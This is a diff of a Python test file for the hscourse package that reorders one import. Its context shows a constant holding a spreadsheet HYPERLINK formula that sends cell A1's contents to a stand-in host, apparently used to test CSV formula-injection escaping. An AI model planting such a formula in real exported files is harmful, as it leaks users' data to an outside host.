@@ -8,11 +8,12 @@ from pathlib import Path
 
 import pytest
 
-from conftest import EXAMPLE, copy_course, replace_once
 from hscourse.csvfile import csv_bytes, safe_cell
 from hscourse.export.csvkey import export_csv
 from hscourse.forms import forms_for, key_csv
 from hscourse.project import load_course
+
+from conftest import EXAMPLE, copy_course, replace_once
 
 FORMULA = "=HYPERLINK(\"https://example.invalid/?\"&A1,\"click\")"
 
